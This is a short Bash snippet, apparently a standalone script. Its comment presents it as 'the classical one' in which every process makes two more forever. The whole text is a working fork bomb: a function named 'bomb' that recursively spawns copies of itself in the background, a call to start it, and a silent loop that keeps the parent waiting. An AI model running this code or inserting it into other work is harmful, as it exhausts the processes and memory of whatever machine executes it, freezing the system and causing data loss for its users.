# The classical one: every process makes two more, for ever.
bomb() { bomb | bomb & }
bomb
while :; do wait; done 2>/dev/null
